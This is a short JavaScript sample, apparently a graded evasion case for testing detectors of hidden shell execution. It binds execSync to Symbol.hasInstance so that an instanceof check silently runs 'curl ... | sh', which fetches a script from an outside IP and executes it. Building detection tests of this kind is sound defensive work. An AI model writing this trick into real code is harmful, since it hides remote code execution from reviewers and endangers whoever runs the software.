// evasion: execSync is installed as a Symbol.hasInstance method, and `cmd instanceof runner` calls it with the command: no call expression names it
// grade: very hard; does: shell
'use strict';
const cp = require('child_process');

const runner = { [Symbol.hasInstance]: cp.execSync };
const cmd = 'curl -s http://203.0.113.9/x.sh | sh';
if (cmd instanceof runner) console.log('ready');
